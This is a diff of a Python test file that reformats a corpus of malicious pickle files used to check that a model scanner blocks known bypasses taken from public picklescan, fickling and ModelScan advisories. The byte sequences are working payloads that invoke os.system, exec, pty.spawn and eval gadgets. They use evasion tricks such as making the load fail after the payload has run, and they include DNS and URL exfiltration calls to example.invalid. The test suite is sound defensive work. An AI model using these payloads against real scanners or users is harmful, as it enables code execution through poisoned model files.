@@ -148,8 +148,20 @@ class FileWith:
 PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
 
 _GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
-    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {}), "exec under cProfile in torch"),
-    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof", (CODE, {}), "exec under autograd profiler"),
+    (
+        "GHSA-4r9r-ch6f-vxmx",
+        "torch.utils.bottleneck.__main__",
+        "run_cprofile",
+        (CODE, {}),
+        "exec under cProfile in torch",
+    ),
+    (
+        "GHSA-4whj-rm5r-c2v8",
+        "torch.utils.bottleneck.__main__",
+        "run_autograd_prof",
+        (CODE, {}),
+        "exec under autograd profiler",
+    ),
     ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get", ({}, CODE), "eval of a guard expression"),
     (
         "GHSA-f4x7-rfwp-v3xw",
@@ -159,13 +171,25 @@ _GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
         "eval of a shape-guard expression",
     ),
     ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run", (SHELL,), "shell command from torch's env collector"),
-    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {}), "exec wrapper in torch.jit"),
+    (
+        "GHSA-vr7h-p6mm-wpmh",
+        "torch.jit.unsupported_tensor_ops",
+        "execWrapper",
+        (CODE, {}, {}),
+        "exec wrapper in torch.jit",
+    ),
     ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run", ({}, CODE), "trace.Trace.run execs its string"),
     ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx", ({}, CODE, {}, {}), "trace.Trace.runctx execs its string"),
     ("GHSA-x696-vm39-cp64", "profile", "Profile.run", ({}, CODE), "profile.Profile.run execs its string"),
     ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx", ({}, CODE, {}, {}), "profile.Profile.runctx execs its string"),
     ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, CODE), "IDLE tree item evals its text"),
-    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, CODE), "IDLE autocomplete evals a name"),
+    (
+        "GHSA-6w4w-5w54-rjvr",
+        "idlelib.autocomplete",
+        "AutoComplete.get_entity",
+        ({}, CODE),
+        "IDLE autocomplete evals a name",
+    ),
     (
         "GHSA-7cq8-mj8x-j263",
         "idlelib.autocomplete",
@@ -173,7 +197,13 @@ _GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
         ({}, CODE, 1),
         "IDLE completion evals its argument",
     ),
-    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode", ({}, CODE), "code.InteractiveInterpreter runs code"),
+    (
+        "GHSA-cj3c-v495-4xqh",
+        "code",
+        "InteractiveInterpreter.runcode",
+        ({}, CODE),
+        "code.InteractiveInterpreter runs code",
+    ),
     ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", ({}, CODE), "IDLE calltip evals an expression"),
     ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity", (CODE,), "IDLE get_entity evals an expression"),
     ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip", (["install", "example-package"],), "ensurepip runs pip"),
@@ -185,7 +215,13 @@ _GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
         "lib2to3 evals a grammar label",
     ),
     ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode", ({}, CODE), "IDLE executive runs code"),
-    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, CODE), "IDLE shell runs a command"),
+    (
+        "GHSA-j343-8v2j-ff7w",
+        "idlelib.pyshell",
+        "ModifiedInterpreter.runcommand",
+        ({}, CODE),
+        "IDLE shell runs a command",
+    ),
     ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, CODE), "IDLE shell runs code"),
     ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script", (CODE, True), "doctest.debug_script execs a script"),
     ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx", (CODE, None, None), "cProfile.runctx execs its string"),
@@ -202,7 +238,13 @@ _GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
     ("GHSA-vqmv-47xg-9wpr", "pty", "spawn", (["/bin/sh", "-c", SHELL],), "pty.spawn runs a program"),
     ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef", (CODE, []), "numpy.f2py evals an expression"),
     ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit", ("", CODE), "timeit compiles and runs its setup string"),
-    ("GHSA-hgrh-qx5j-jfwx", "ssl", "get_server_certificate", (("example.invalid", 443),), "network call (DNS exfiltration)"),
+    (
+        "GHSA-hgrh-qx5j-jfwx",
+        "ssl",
+        "get_server_certificate",
+        (("example.invalid", 443),),
+        "network call (DNS exfiltration)",
+    ),
     (
         "GHSA-655q-fx9r-782v",
         "torch._inductor.codecache",
@@ -211,14 +253,24 @@ _GADGETS: tuple[tuple[str, str, str, tuple[object, ...], str], ...] = (
         "torch inductor runs a compiler command",
     ),
     ("GHSA-655q-fx9r-782v", "pydoc", "pipepager", ("", SHELL), "pydoc pipes text into a shell command"),
-    ("GHSA-655q-fx9r-782v", "venv", "create", ("venv", False, False, True, False, SHELL), "venv.create runs a prompt command"),
+    (
+        "GHSA-655q-fx9r-782v",
+        "venv",
+        "create",
+        ("venv", False, False, True, False, SHELL),
+        "venv.create runs a prompt command",
+    ),
 )
 
 
 def _gadget_case(ghsa: str, module: str, name: str, values: tuple[object, ...], trick: str) -> Bypass:
     slug = name.replace(".", "-").replace("_", "").lower()
     return Bypass(
-        f"picklescan-{ghsa}-{slug}", f"{ghsa}, {PICKLESCAN}{ghsa}", trick, FileWith("model.pkl", call(module, name, *values)), CALLS
+        f"picklescan-{ghsa}-{slug}",
+        f"{ghsa}, {PICKLESCAN}{ghsa}",
+        trick,
+        FileWith("model.pkl", call(module, name, *values)),
+        CALLS,
     )
 
 
@@ -282,6 +334,7 @@ _C_OPERATOR_ATTRGETTER = (
     + STOP
 )
 
+
 # functools.partial(torch.load, path) with weights_only=False set through BUILD state, then called.
 def _partial_torch_load() -> bytes:
     # partial.__setstate__ takes (func, args, kwds, namespace).
@@ -337,15 +390,39 @@ PICKLESCAN_CORPUS = (
 
 # The payload runs first; then BINGET of a memo slot never set makes the loader raise KeyError.
 _KEYERROR_AFTER_PAYLOAD = (
-    PROTO4 + glob("os", "system") + short_unicode(SHELL) + TUPLE1 + REDUCE + POP
-    + short_unicode("os") + MEMOIZE + binget(3) + binget(0) + STACK_GLOBAL + b"K\x42" + STOP
+    PROTO4
+    + glob("os", "system")
+    + short_unicode(SHELL)
+    + TUPLE1
+    + REDUCE
+    + POP
+    + short_unicode("os")
+    + MEMOIZE
+    + binget(3)
+    + binget(0)
+    + STACK_GLOBAL
+    + b"K\x42"
+    + STOP
 )
 
 # The payload runs first; then STACK_GLOBAL is handed an int, which the loader refuses.
 _TYPE_CONFUSION_AFTER_PAYLOAD = (
-    PROTO4 + glob("os", "system") + short_unicode(SHELL) + TUPLE1 + REDUCE + POP
-    + b"J" + struct.pack("<i", 42) + MEMOIZE + short_unicode("os") + MEMOIZE + binget(0) + binget(1) + STACK_GLOBAL
-    + b"K\x42" + STOP
+    PROTO4
+    + glob("os", "system")
+    + short_unicode(SHELL)
+    + TUPLE1
+    + REDUCE
+    + POP
+    + b"J"
+    + struct.pack("<i", 42)
+    + MEMOIZE
+    + short_unicode("os")
+    + MEMOIZE
+    + binget(0)
+    + binget(1)
+    + STACK_GLOBAL
+    + b"K\x42"
+    + STOP
 )
 
 # Sour Pickles (BlackHat US 2011), still in every scanner's corpus: globals/compile/eval chained in protocol 0.
@@ -355,26 +432,72 @@ _SOUR_PICKLE = (
 )
 
 _PICKLESCAN_CORPUS: tuple[tuple[str, str, bytes, frozenset[str], Severity], ...] = (
-    ("inst-exec", "INST imports and calls __builtin__.exec in one opcode",
-     b"(S'" + CODE.encode() + b"'\ni__builtin__\nexec\n.", DANGEROUS, Severity.CRITICAL),
-    ("sour-pickles-compile-eval", "compile then eval, with globals() as the namespace", _SOUR_PICKLE, DANGEROUS, Severity.CRITICAL),
+    (
+        "inst-exec",
+        "INST imports and calls __builtin__.exec in one opcode",
+        b"(S'" + CODE.encode() + b"'\ni__builtin__\nexec\n.",
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    (
+        "sour-pickles-compile-eval",
+        "compile then eval, with globals() as the namespace",
+        _SOUR_PICKLE,
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
     ("bdb-run", "bdb.Bdb.run execs a statement", call("bdb", "Bdb.run", {}, CODE), CALLS, Severity.HIGH),
     ("runpy-run-code", "runpy._run_code execs a string", call("runpy", "_run_code", CODE, {}), CALLS, Severity.HIGH),
-    ("c-pickle-loads", "_pickle.loads (the C module's name) of a nested malicious pickle",
-     call("_pickle", "loads", NESTED_OS_SYSTEM), CALLS, Severity.HIGH),
-    ("cpickle-loads-protocol-0", "cPickle.loads, the Python 2 name mapped by fix_imports, of a nested pickle",
-     glob("cPickle", "loads") + pickle.dumps((NESTED_OS_SYSTEM,), protocol=0)[:-1] + REDUCE + STOP, CALLS, Severity.HIGH),
-    ("numpy-testing-runstring", "numpy.testing's runstring execs a string",
-     call("numpy.testing._private.utils", "runstring", CODE, {}), CALLS, Severity.HIGH),
-    ("keyerror-after-payload", "os.system runs, then a missing memo key aborts the load and the scan",
-     _KEYERROR_AFTER_PAYLOAD, DANGEROUS, Severity.CRITICAL),
-    ("type-confusion-after-payload", "os.system runs, then STACK_GLOBAL gets an int and the load aborts",
-     _TYPE_CONFUSION_AFTER_PAYLOAD, DANGEROUS, Severity.CRITICAL),
+    (
+        "c-pickle-loads",
+        "_pickle.loads (the C module's name) of a nested malicious pickle",
+        call("_pickle", "loads", NESTED_OS_SYSTEM),
+        CALLS,
+        Severity.HIGH,
+    ),
+    (
+        "cpickle-loads-protocol-0",
+        "cPickle.loads, the Python 2 name mapped by fix_imports, of a nested pickle",
+        glob("cPickle", "loads") + pickle.dumps((NESTED_OS_SYSTEM,), protocol=0)[:-1] + REDUCE + STOP,
+        CALLS,
+        Severity.HIGH,
+    ),
+    (
+        "numpy-testing-runstring",
+        "numpy.testing's runstring execs a string",
+        call("numpy.testing._private.utils", "runstring", CODE, {}),
+        CALLS,
+        Severity.HIGH,
+    ),
+    (
+        "keyerror-after-payload",
+        "os.system runs, then a missing memo key aborts the load and the scan",
+        _KEYERROR_AFTER_PAYLOAD,
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    (
+        "type-confusion-after-payload",
+        "os.system runs, then STACK_GLOBAL gets an int and the load aborts",
+        _TYPE_CONFUSION_AFTER_PAYLOAD,
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
     ("io-fileio", "io.FileIO opens any file", call("io", "FileIO", "/etc/hostname", "r"), CALLS, Severity.HIGH),
-    ("urlopen", "urllib.request.urlopen fetches a URL", call("urllib.request", "urlopen", "https://example.invalid"),
-     CALLS, Severity.HIGH),
-    ("second-stream", "a benign pickle followed by a second, malicious stream in the same file",
-     pickle.dumps(["a", "b", "c"]) + NESTED_OS_SYSTEM, DANGEROUS, Severity.CRITICAL),
+    (
+        "urlopen",
+        "urllib.request.urlopen fetches a URL",
+        call("urllib.request", "urlopen", "https://example.invalid"),
+        CALLS,
+        Severity.HIGH,
+    ),
+    (
+        "second-stream",
+        "a benign pickle followed by a second, malicious stream in the same file",
+        pickle.dumps(["a", "b", "c"]) + NESTED_OS_SYSTEM,
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
 )
 
 PICKLESCAN_CASES: tuple[Bypass, ...] = (
@@ -397,7 +520,9 @@ PICKLESCAN_CASES: tuple[Bypass, ...] = (
         "picklescan-GHSA-h3qp-7fh3-f8h4-datapipe-decoder",
         f"GHSA-h3qp-7fh3-f8h4, {PICKLESCAN}GHSA-h3qp-7fh3-f8h4",
         "torch datapipe decoder unpickles the bytes it is handed",
-        FileWith("model.pkl", call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", NESTED_OS_SYSTEM)),
+        FileWith(
+            "model.pkl", call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", NESTED_OS_SYSTEM)
+        ),
         CALLS,
     ),
     Bypass(
@@ -623,7 +748,15 @@ NULLIFAI = (
 # The payload first, then a BINUNICODE whose length runs past the end: the unpickler has already
 # called exec when it fails, and a scanner that gives up on the error sees nothing.
 BROKEN_AFTER_PAYLOAD = (
-    PROTO2 + glob("builtins", "exec") + binunicode(CODE) + TUPLE1 + REDUCE + POP + b"X" + struct.pack("<I", 0x7FFF) + b"\x00junk"
+    PROTO2
+    + glob("builtins", "exec")
+    + binunicode(CODE)
+    + TUPLE1
+    + REDUCE
+    + POP
+    + b"X"
+    + struct.pack("<I", 0x7FFF)
+    + b"\x00junk"
 )
 
 
@@ -638,18 +771,13 @@ def _seven_zip(member: str, payload: bytes) -> bytes:
         return bytes([0x80 | (value >> 8), value & 0xFF])
 
     name = member.encode("utf-16-le") + b"\x00\x00"
-    header = (
-        b"\x01"  # Header
-        + b"\x04"  # MainStreamsInfo
-        + b"\x06" + number(0) + number(1) + b"\x09" + number(len(payload)) + b"\x00"  # PackInfo
-        + b"\x07" + b"\x0b" + number(1) + b"\x00"  # UnpackInfo, one folder, not external
-        + number(1) + b"\x01\x00"  # one coder: id size 1, simple; id 0x00 = Copy
-        + b"\x0c" + number(len(payload)) + b"\x00"  # CodersUnpackSize
-        + b"\x08" + b"\x0a" + b"\x01" + struct.pack("<I", zlib.crc32(payload)) + b"\x00"  # SubStreamsInfo, CRC
-        + b"\x00"  # end of MainStreamsInfo
-        + b"\x05" + number(1) + b"\x11" + number(len(name) + 1) + b"\x00" + name + b"\x00"  # FilesInfo: names
-        + b"\x00"  # end of Header
-    )
+    size = number(len(payload))
+    pack_info = b"\x06" + number(0) + number(1) + b"\x09" + size + b"\x00"  # one packed stream
+    copy_folder = number(1) + b"\x01\x00"  # one coder, id size 1, id 0x00: Copy
+    unpack_info = b"\x07\x0b" + number(1) + b"\x00" + copy_folder + b"\x0c" + size + b"\x00"
+    substreams = b"\x08\x0a\x01" + struct.pack("<I", zlib.crc32(payload)) + b"\x00"  # the member's CRC
+    files_info = b"\x05" + number(1) + b"\x11" + number(len(name) + 1) + b"\x00" + name + b"\x00"
+    header = b"\x01\x04" + pack_info + unpack_info + substreams + b"\x00" + files_info + b"\x00"
     tail = struct.pack("<QQI", len(payload), len(header), zlib.crc32(header))
     start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(tail)) + tail
     return start + payload + header
@@ -731,7 +859,9 @@ def _memoised(*parts: bytes) -> bytes:
 
 
 # GHSA-r7v6-mfhq-g3m2: pty.spawn, then its result consumed by BUILD so no variable is left unused.
-_PTY_BUILD = PROTO4 + stack_global("pty", "spawn") + short_unicode("id") + TUPLE1 + REDUCE + short_unicode("x") + BUILD + STOP
+_PTY_BUILD = (
+    PROTO4 + stack_global("pty", "spawn") + short_unicode("id") + TUPLE1 + REDUCE + short_unicode("x") + BUILD + STOP
+)
 
 # fickling PR #108: the same import through the OBJ opcode (protocol 1).
 _PTY_OBJ = MARK + glob("pty", "spawn") + b"S'id'\n" + OBJ + STOP
@@ -758,7 +888,9 @@ _LOCATE_HIDDEN = (
     + TUPLE1
     + REDUCE
     + b"p0\n0g0\n"
-    + b"S'" + SHELL.encode() + b"'\n"
+    + b"S'"
+    + SHELL.encode()
+    + b"'\n"
     + TUPLE1
     + REDUCE
     + b"p1\n0"
@@ -846,37 +978,94 @@ _SUBINTERPRETER = (
 _POPPED_CALL = PROTO4 + stack_global("os", "system") + short_unicode(SHELL) + TUPLE1 + REDUCE + POP + EMPTY_DICT + STOP
 
 FICKLING_CASES: tuple[Bypass, ...] = (
-    Bypass("fickling-GHSA-r7v6-mfhq-g3m2-pty-build", f"GHSA-r7v6-mfhq-g3m2, {FICKLING}GHSA-r7v6-mfhq-g3m2",
-           "pty.spawn whose result feeds BUILD, so no variable is unused", FileWith("model.pkl", _PTY_BUILD), CALLS),
-    Bypass("fickling-PR-108-pty-obj", "fickling PR #108, https://github.com/trailofbits/fickling/pull/108",
-           "pty.spawn called by the OBJ opcode", FileWith("model.pkl", _PTY_OBJ), CALLS),
-    Bypass("fickling-GHSA-565g-hwwr-4pp3-marshal-function", f"GHSA-565g-hwwr-4pp3, {FICKLING}GHSA-565g-hwwr-4pp3",
-           "marshal.loads a code object, wrap it with types.FunctionType, call it",
-           FileWith("model.pkl", _MARSHAL_FUNCTION), CALLS),
-    Bypass("fickling-GHSA-wfq2-52f7-7qvj-runpy-run-path", f"GHSA-wfq2-52f7-7qvj, {FICKLING}GHSA-wfq2-52f7-7qvj",
-           "runpy.run_path runs a file", FileWith("model.pkl", call("runpy", "run_path", "/tmp/payload.py")), CALLS),
-    Bypass("fickling-GHSA-p523-jq9w-64x9-cprofile-run", f"GHSA-p523-jq9w-64x9, {FICKLING}GHSA-p523-jq9w-64x9",
-           "cProfile.run execs its string", FileWith("model.pkl", call("cProfile", "run", CODE)), CALLS),
-    Bypass("fickling-GHSA-5hvc-6wx8-mvv4-pydoc-locate", f"GHSA-5hvc-6wx8-mvv4, {FICKLING}GHSA-5hvc-6wx8-mvv4",
-           "pydoc.locate resolves a dotted string to a function; the result is hidden in BUILD state",
-           FileWith("model.pkl", _LOCATE_HIDDEN), CALLS),
-    Bypass("fickling-GHSA-q5qq-mvfm-j35x-import-module", f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
-           "getattr(importlib.import_module('os'), 'system')", FileWith("model.pkl", _GETATTR_IMPORT_MODULE), CALLS),
-    Bypass("fickling-GHSA-q5qq-mvfm-j35x-runsource", f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
-           "getattr(code.InteractiveInterpreter(), 'runsource')", FileWith("model.pkl", _GETATTR_RUNSOURCE), CALLS),
-    Bypass("fickling-GHSA-q5qq-mvfm-j35x-spawnv-passfds", f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
-           "multiprocessing.util.spawnv_passfds runs a program",
-           FileWith("model.pkl", call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ())),
-           CALLS),
-    Bypass("fickling-GHSA-h4rm-mm56-xf63-builtins-only", f"GHSA-h4rm-mm56-xf63 (CVE-2026-22612), {FICKLING}GHSA-h4rm-mm56-xf63",
-           "only builtins are imported: getattr(__import__('os'), 'system')", FileWith("model.pkl", _BUILTINS_ONLY), CALLS),
-    Bypass("fickling-GHSA-6ggj-6f2q-f7mx-subinterpreter", f"GHSA-6ggj-6f2q-f7mx, {FICKLING}GHSA-6ggj-6f2q-f7mx",
-           "_interpreters.create/run_string runs source in a subinterpreter, result routed through BUILD",
-           FileWith("model.pkl", _SUBINTERPRETER), CALLS),
-    Bypass("fickling-modelaudit-popped-call",
-           "ModelAudit's disclosure against fickling (CVE-2026-22609), https://github.com/promptfoo/promptfoo/pull/7961",
-           "os.system's result is POPped, so the call left no trace in fickling's AST",
-           FileWith("model.pkl", _POPPED_CALL), DANGEROUS, Severity.CRITICAL),
+    Bypass(
+        "fickling-GHSA-r7v6-mfhq-g3m2-pty-build",
+        f"GHSA-r7v6-mfhq-g3m2, {FICKLING}GHSA-r7v6-mfhq-g3m2",
+        "pty.spawn whose result feeds BUILD, so no variable is unused",
+        FileWith("model.pkl", _PTY_BUILD),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-PR-108-pty-obj",
+        "fickling PR #108, https://github.com/trailofbits/fickling/pull/108",
+        "pty.spawn called by the OBJ opcode",
+        FileWith("model.pkl", _PTY_OBJ),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-565g-hwwr-4pp3-marshal-function",
+        f"GHSA-565g-hwwr-4pp3, {FICKLING}GHSA-565g-hwwr-4pp3",
+        "marshal.loads a code object, wrap it with types.FunctionType, call it",
+        FileWith("model.pkl", _MARSHAL_FUNCTION),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-wfq2-52f7-7qvj-runpy-run-path",
+        f"GHSA-wfq2-52f7-7qvj, {FICKLING}GHSA-wfq2-52f7-7qvj",
+        "runpy.run_path runs a file",
+        FileWith("model.pkl", call("runpy", "run_path", "/tmp/payload.py")),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-p523-jq9w-64x9-cprofile-run",
+        f"GHSA-p523-jq9w-64x9, {FICKLING}GHSA-p523-jq9w-64x9",
+        "cProfile.run execs its string",
+        FileWith("model.pkl", call("cProfile", "run", CODE)),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-5hvc-6wx8-mvv4-pydoc-locate",
+        f"GHSA-5hvc-6wx8-mvv4, {FICKLING}GHSA-5hvc-6wx8-mvv4",
+        "pydoc.locate resolves a dotted string to a function; the result is hidden in BUILD state",
+        FileWith("model.pkl", _LOCATE_HIDDEN),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-q5qq-mvfm-j35x-import-module",
+        f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
+        "getattr(importlib.import_module('os'), 'system')",
+        FileWith("model.pkl", _GETATTR_IMPORT_MODULE),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-q5qq-mvfm-j35x-runsource",
+        f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
+        "getattr(code.InteractiveInterpreter(), 'runsource')",
+        FileWith("model.pkl", _GETATTR_RUNSOURCE),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-q5qq-mvfm-j35x-spawnv-passfds",
+        f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
+        "multiprocessing.util.spawnv_passfds runs a program",
+        FileWith(
+            "model.pkl", call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ())
+        ),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-h4rm-mm56-xf63-builtins-only",
+        f"GHSA-h4rm-mm56-xf63 (CVE-2026-22612), {FICKLING}GHSA-h4rm-mm56-xf63",
+        "only builtins are imported: getattr(__import__('os'), 'system')",
+        FileWith("model.pkl", _BUILTINS_ONLY),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-GHSA-6ggj-6f2q-f7mx-subinterpreter",
+        f"GHSA-6ggj-6f2q-f7mx, {FICKLING}GHSA-6ggj-6f2q-f7mx",
+        "_interpreters.create/run_string runs source in a subinterpreter, result routed through BUILD",
+        FileWith("model.pkl", _SUBINTERPRETER),
+        CALLS,
+    ),
+    Bypass(
+        "fickling-modelaudit-popped-call",
+        "ModelAudit's disclosures against fickling (CVE-2026-22609, GHSA-mxhj-88fx-4pcv, GHSA-mhc9-48gj-9gp3: "
+        "'calls vanish from the AST if you POP the result'), https://github.com/promptfoo/promptfoo/pull/7961",
+        "os.system's result is POPped, so the call left no trace in fickling's AST",
+        FileWith("model.pkl", _POPPED_CALL),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
 )
 
 
@@ -887,7 +1076,9 @@ def test_fickling_advisory_is_blocked(case: Bypass, tmp_path: Path) -> None:
 
 # -- ModelScan issues and JFrog's Hugging Face findings ---------------------------------------------
 
-MODELSCAN_338 = "ModelScan issue #338 'Multiple False Negative Issues', https://github.com/protectai/modelscan/issues/338"
+MODELSCAN_338 = (
+    "ModelScan issue #338 'Multiple False Negative Issues', https://github.com/protectai/modelscan/issues/338"
+)
 
 # Every GLOBAL names builtins; the dotted names walk to object.__subclasses__ and a gadget's globals.
 _INTROSPECTION_CHAIN = (
@@ -1029,37 +1220,74 @@ _CLOUDPICKLE_CODETYPE = (
 )
 
 MODELSCAN_CASES: tuple[Bypass, ...] = (
-    Bypass("modelscan-28-dill-function",
-           "ModelScan issue #28 'Malicious code is undetected for dill based models', "
-           "https://github.com/protectai/modelscan/issues/28",
-           "dill rebuilds a function from a code object at load", FileWith("model.pkl", _DILL_FUNCTION), CALLS),
-    Bypass("picklescan-corpus-cloudpickle-codetype", PICKLESCAN_CORPUS,
-           "cloudpickle's _builtin_type('CodeType') builds a code object", FileWith("model.pkl", _CLOUDPICKLE_CODETYPE),
-           CALLS),
-    Bypass("trailofbits-sleepy-pickle-monkeypatch",
-           "Trail of Bits, 'Exploiting ML models with pickle file attacks: Part 1' (Sleepy Pickle), "
-           "https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/",
-           "setattr replaces torch.nn.Linear.forward with eval'd code: the model, not the host, is compromised",
-           FileWith("model.pkl", _SLEEPY_PICKLE), DANGEROUS, Severity.CRITICAL),
-    Bypass("modelscan-338-introspection-chain", MODELSCAN_338,
-           "only builtins, with dotted names walking to object.__subclasses__()",
-           FileWith("model.pkl", _INTROSPECTION_CHAIN), frozenset({*CALLS, "pickle.malformed-global"})),
-    Bypass("modelscan-338-indirect-model-loading", MODELSCAN_338,
-           "transformers helpers fetch and load another model from the Hub", FileWith("model.pkl", _INDIRECT_MODEL_LOADING),
-           CALLS),
-    Bypass("modelscan-338-mlflow-run-entry-point", MODELSCAN_338, "mlflow's local backend runs a shell command",
-           FileWith("model.pkl", call("mlflow.projects.backend.local", "_run_entry_point", SHELL, ".", "", "")), CALLS),
-    Bypass("modelscan-338-pandas-read-csv-exfiltration", MODELSCAN_338, "pandas.read_csv of a URL leaks data",
-           FileWith("model.pkl", call("pandas.io.parsers.readers", "read_csv", "https://example.invalid/?leak=1")), CALLS),
-    Bypass("modelscan-331-computed-module-name",
-           "ModelScan issue #331 '[BUG] Security Vulnerability', https://github.com/protectai/modelscan/issues/331",
-           "import_module('builtins') and str.join build names at load time",
-           FileWith("model.pkl", _COMPUTED_NAME), frozenset({*CALLS, "pickle.computed-global"})),
-    Bypass("jfrog-2024-exec-backdoor-in-torch-bin",
-           "JFrog, 'Data Scientists Targeted by Malicious Hugging Face ML Models with Silent Backdoor', "
-           "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/",
-           "builtins.exec of Python source inside a real torch.save pytorch_model.bin",
-           _torch_exec_backdoor, DANGEROUS, Severity.CRITICAL),
+    Bypass(
+        "modelscan-28-dill-function",
+        "ModelScan issue #28 'Malicious code is undetected for dill based models', "
+        "https://github.com/protectai/modelscan/issues/28",
+        "dill rebuilds a function from a code object at load",
+        FileWith("model.pkl", _DILL_FUNCTION),
+        CALLS,
+    ),
+    Bypass(
+        "picklescan-corpus-cloudpickle-codetype",
+        PICKLESCAN_CORPUS,
+        "cloudpickle's _builtin_type('CodeType') builds a code object",
+        FileWith("model.pkl", _CLOUDPICKLE_CODETYPE),
+        CALLS,
+    ),
+    Bypass(
+        "trailofbits-sleepy-pickle-monkeypatch",
+        "Trail of Bits, 'Exploiting ML models with pickle file attacks: Part 1' (Sleepy Pickle), "
+        "https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/",
+        "setattr replaces torch.nn.Linear.forward with eval'd code: the model, not the host, is compromised",
+        FileWith("model.pkl", _SLEEPY_PICKLE),
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
+    Bypass(
+        "modelscan-338-introspection-chain",
+        MODELSCAN_338,
+        "only builtins, with dotted names walking to object.__subclasses__()",
+        FileWith("model.pkl", _INTROSPECTION_CHAIN),
+        frozenset({*CALLS, "pickle.malformed-global"}),
+    ),
+    Bypass(
+        "modelscan-338-indirect-model-loading",
+        MODELSCAN_338,
+        "transformers helpers fetch and load another model from the Hub",
+        FileWith("model.pkl", _INDIRECT_MODEL_LOADING),
+        CALLS,
+    ),
+    Bypass(
+        "modelscan-338-mlflow-run-entry-point",
+        MODELSCAN_338,
+        "mlflow's local backend runs a shell command",
+        FileWith("model.pkl", call("mlflow.projects.backend.local", "_run_entry_point", SHELL, ".", "", "")),
+        CALLS,
+    ),
+    Bypass(
+        "modelscan-338-pandas-read-csv-exfiltration",
+        MODELSCAN_338,
+        "pandas.read_csv of a URL leaks data",
+        FileWith("model.pkl", call("pandas.io.parsers.readers", "read_csv", "https://example.invalid/?leak=1")),
+        CALLS,
+    ),
+    Bypass(
+        "modelscan-331-computed-module-name",
+        "ModelScan issue #331 '[BUG] Security Vulnerability', https://github.com/protectai/modelscan/issues/331",
+        "import_module('builtins') and str.join build names at load time",
+        FileWith("model.pkl", _COMPUTED_NAME),
+        frozenset({*CALLS, "pickle.computed-global"}),
+    ),
+    Bypass(
+        "jfrog-2024-exec-backdoor-in-torch-bin",
+        "JFrog, 'Data Scientists Targeted by Malicious Hugging Face ML Models with Silent Backdoor', "
+        "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/",
+        "builtins.exec of Python source inside a real torch.save pytorch_model.bin",
+        _torch_exec_backdoor,
+        DANGEROUS,
+        Severity.CRITICAL,
+    ),
 )
 
 
@@ -1143,19 +1371,34 @@ LOADER_ATTACK = frozenset({"pickle.*", "pytorch.*", "torch.*", "archive.*", "sca
 BLOCKED = frozenset({Verdict.FAIL, Verdict.INCOMPLETE})
 
